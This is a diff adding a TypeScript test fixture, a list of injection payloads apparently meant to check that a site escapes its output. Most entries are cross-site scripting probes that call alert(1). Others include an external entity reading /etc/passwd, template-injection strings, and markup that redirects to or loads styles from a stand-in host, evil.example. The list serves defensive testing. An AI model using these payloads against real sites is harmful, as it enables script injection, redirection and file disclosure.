@@ -1,0 +1,23 @@
+/** What people may write where a site would be fooled by it: into another element, attribute, script, comment, or line. */
+export const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '</SCRIPT ><svg onload=alert(1)>',
+  '</title><img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  `' onmouseover='alert(1)`,
+  '" onfocus="alert(1)" autofocus="',
+  '--><!--<script>alert(1)//',
+  ']]><script>alert(1)</script><![CDATA[',
+  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '${alert(1)} {{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %>',
+  "$& $` $' $1 $$ </head></body></html>",
+  'javascript:alert(1)//',
+  '\u2028</script>\u2029<script>alert(1)',
+] as const;
